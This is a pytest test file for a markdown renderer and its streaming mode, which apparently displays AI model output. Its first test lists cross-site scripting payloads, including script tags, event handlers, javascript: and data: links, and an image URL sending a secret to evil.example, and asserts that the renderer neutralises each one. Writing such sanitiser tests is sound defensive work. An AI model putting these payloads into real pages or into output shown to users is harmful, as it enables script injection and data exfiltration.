import time

import pytest

from interactions.markdown import MarkdownStream, render

SPEECH = (
    "Look:\n\n1. one **bold**\n2. two\n\nA paragraph\nof two lines.\n\n```py\nx = 1\n\ny = 2\n```\n\n"
    "| a | b |\n|---|---|\n| 1 | 2 |\n\nEnd, with ~~this~~ `that`.\n"
)


@pytest.mark.parametrize(
    "hostile",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        "[x](vbscript:msgbox)",
        '<a hx-get="/x" hx-trigger="load">a</a>',
        "<div style='position:fixed'>x</div>",
        "<svg/onload=alert(1)>",
        "![x](https://evil.example/?secret=1)",
        "![x](javascript:alert(1))",
        '```"><script>alert(1)</script>\nx\n```',
        "```mermaid\ngraph TD; A-->B\n```",
        "<iframe src=//evil.example></iframe>",
        '[x](https://a.example "t\\" onclick=alert(1)")',
        "<http://a.example/'onmouseover=alert(1)>",
    ],
)
def test_what_a_model_writes_is_inert(hostile):
    html = render(hostile)
    tags = [piece.split(">")[0] for piece in html.split("<")[1:]]
    assert not [tag for tag in tags if tag.split()[0].split("/")[0] in {"script", "img", "svg", "iframe", "div style"}]
    assert not any(
        f" {name}" in tag for tag in tags for name in ("on", "style", "hx-", "src", "srcdoc") if "title=" not in tag
    )
    assert not any("javascript:" in tag.lower() or "data:" in tag.lower() or "vbscript:" in tag.lower() for tag in tags)


def test_a_picture_is_a_link_that_nothing_fetches():
    html = render("![the letter](https://a.example/x.png)")
    assert '<a href="https://a.example/x.png"' in html
    assert ">the letter</a>" in html
    assert "<img" not in html


def test_links_leave_without_a_trace():
    html = render("[a](https://a.example)")
    assert 'rel="noopener nofollow"' in html
    assert 'target="_blank"' in html


def test_tables_strikethrough_and_line_breaks():
    html = render("a\nb\n\n~~gone~~\n\n| a |\n|---|\n| 1 |")
    assert "a<br>" in html
    assert "<s>gone</s>" in html
    assert "<td>1</td>" in html


def test_only_a_language_is_a_class():
    assert 'class="language-py"' in render("```py\nx\n```")
    assert "class=" not in render('```x"y<z\nx\n```').replace('class="code', "")


@pytest.mark.parametrize(
    "bad", ["[" * 20_000, "*" * 20_000, ">" * 20_000, "a**" * 10_000, "![" * 10_000, "- " * 20_000]
)
def test_no_input_takes_long(bad):
    began = time.perf_counter()
    render(bad)
    assert time.perf_counter() - began < 3


def streamed(text: str, size: int) -> tuple[MarkdownStream, dict[int, str], list[int]]:
    """Stream `text` and return the stream, what the page then shows, and how many blocks each piece changed."""
    stream = MarkdownStream()
    page: dict[int, str] = {}
    changes: list[int] = []
    for start in range(0, len(text), size):
        stream.add(start, text[start : start + size])
        changed = stream.changed()
        changes.append(len(changed))
        for number, html in changed:
            if html is None:
                del page[number]
            else:
                page[number] = html
    return stream, page, changes


@pytest.mark.parametrize("size", [1, 2, 3, 7, 40, 1000])
def test_streamed_blocks_add_up_to_the_whole(size):
    _, page, _ = streamed(SPEECH, size)
    assert sorted(page) == list(range(len(page)))
    html = "\n".join(page[number] for number in sorted(page)).replace('<span class="caret"></span>', "")
    assert html.replace("\n", "") == render(SPEECH).replace("\n", "")


def test_a_fence_stays_one_block_while_it_is_open():
    stream = MarkdownStream()
    stream.add(0, "Before.\n\n```py\na = 1\n\n# not a heading\n\nb")
    blocks = dict(stream.changed())
    assert len(blocks) == 2
    assert "# not a heading" in str(blocks[1])


def test_only_the_end_is_rendered_again():
    text = "\n\n".join(f"Paragraph {number} has a few words in it." for number in range(200)) + "\n"
    _, _, changes = streamed(text, 9)
    assert max(changes) <= 3


def test_a_long_text_costs_as_much_per_piece_as_a_short_one():
    stream = MarkdownStream()
    stream.add(0, "\n\n".join("word " * 30 for _ in range(2_000)))
    stream.changed()
    began = time.perf_counter()
    for _ in range(100):
        stream.add(len(stream.text), "more ")
        stream.changed()
    assert time.perf_counter() - began < 0.5


def test_an_overlap_is_overwritten_a_gap_is_dropped_and_zero_begins_anew():
    stream = MarkdownStream()
    stream.add(0, "Hello world")
    stream.add(6, "there")
    assert stream.text == "Hello there"
    stream.add(40, "lost")
    assert stream.text == "Hello there"
    stream.changed()
    stream.add(0, "Anew")
    assert stream.changed() == [(0, '<p>Anew<span class="caret"></span></p>')]


def test_blocks_that_were_overwritten_are_gone():
    stream = MarkdownStream()
    stream.add(0, "One.\n\nTwo.\n\nThree.\n")
    assert len(stream.changed()) == 3
    stream.add(0, "One.")
    assert [(number, html is None) for number, html in stream.changed()] == [(0, False), (1, True), (2, True)]


def test_open_emphasis_does_not_show_its_marks():
    stream = MarkdownStream()
    stream.add(0, "This is **very")
    assert "**" not in str(dict(stream.changed())[0])
    stream.add(14, " good** and `co")
    assert "`" not in str(dict(stream.changed())[0])
